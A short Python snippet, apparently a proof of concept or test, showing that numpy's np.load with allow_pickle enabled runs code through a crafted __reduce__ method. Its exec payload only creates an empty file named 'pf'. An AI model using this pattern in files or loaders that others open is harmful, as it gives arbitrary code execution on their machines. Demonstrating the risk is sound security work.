import numpy as np, io
class E:
    def __reduce__(self):
        return exec, ("open('pf','w')",)
f = io.BytesIO()
np.save(f, np.array([E()], dtype=object))
f.seek(0)
np.load(f, allow_pickle=1)
